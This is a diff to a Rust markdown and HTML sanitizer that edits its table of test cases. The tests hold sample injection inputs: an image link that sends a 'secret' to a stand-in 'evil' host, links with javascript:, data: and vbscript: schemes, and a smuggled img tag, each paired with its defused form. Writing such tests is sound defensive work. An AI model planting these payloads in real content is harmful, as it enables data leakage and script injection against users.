@@ -16,7 +16,6 @@ const UNSAFE: &str = "unsafe:";
 
 /// A text without it, and in how many places.
 pub(super) fn clean(text: &str) -> (Cow<'_, str>, u64) {
-    // Tags first: what becomes of them makes the address of a link one that is stopped, and not the other way round.
     let (tagless, tags) = tags::clean(text);
     let (linkless, links) = links::clean(&tagless);
     match (tags, links) {
@@ -59,11 +58,12 @@ mod tests {
             ("<a x=\"\n\n<img src=y>", "<a x=\"\n\n&lt;img src=y>"),
             ("![a](http://evil/?q=secret)", "![a] (http://evil/?q=secret)"),
             ("![a `]` b](http://evil)", "![a `]` b] (http://evil)"),
-            ("![a\nb](<//evil> \"t\")", "![a\nb] (<//evil> \"t\")"),
+            ("![a\nb](<https://evil> \"t\")", "![a\nb] (<https://evil> \"t\")"),
+            ("![a](<//evil>)", "![a](&lt;//evil>)"),
             ("[![a](https://x)](https://y)", "[![a] (https://x)] (https://y)"),
             ("![a][b]\n\n[b]: https://evil", "![a][b]\n\n[b] : https://evil"),
             ("[a](javascript:x)", "[a] (javascript:x)"),
-            ("[a](<data:text/html,x>)", "[a] (&lt;data:text/html,x>)"),
+            ("[a](<data:text/html,x>)", "[a](&lt;data:text/html,x>)"),
             ("[a]: vbscript:x", "[a] : vbscript:x"),
         ];
         for (raw, text) in table {
